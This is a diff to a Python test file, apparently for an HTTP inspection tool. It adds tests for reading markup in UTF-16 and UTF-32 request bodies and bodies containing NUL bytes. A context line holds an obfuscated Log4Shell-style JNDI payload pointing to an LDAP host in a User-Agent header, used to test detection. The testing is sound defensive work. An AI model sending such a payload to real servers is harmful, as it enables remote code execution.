@@ -252,3 +252,20 @@ def test_what_lies_across_the_parts_of_a_long_head_is_in_one_of_them(before: int
     agent = b"${${date:" + b"b" * 6000 + b"}x:ldap://192.0.2.66/a}"
     wire = sent(request(b"GET / HTTP/1.1", b"X: " + b"a" * before, b"User-Agent: " + agent, b"Y: " + b"c" * 9000))
     assert any(agent in found for found in instances(wire, "http.header"))
+
+
+# Markup in wide characters.
+
+
+@pytest.mark.parametrize("coding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-be"])
+@pytest.mark.parametrize("step", [0, 50])
+def test_markup_in_wide_characters_is_also_read_as_ascii(coding: str, step: int) -> None:
+    body = ENTITY[2:].decode().encode(coding)
+    wire = sent(with_length(body), step)
+    assert any(ENTITY[2:] in found for found in instances(wire, "http.request_body"))
+    assert body in instances(wire, "http.request_body")
+
+
+@pytest.mark.parametrize("body", [b"PK\3\4\0\0<\0\0\0\0\1", b"\0\0", b"a<b", "größer < kleiner".encode("utf-16")])
+def test_other_bytes_with_nul_are_read_once(body: bytes) -> None:
+    assert set(instances(sent(with_length(body)), "http.request_body")) == {body}
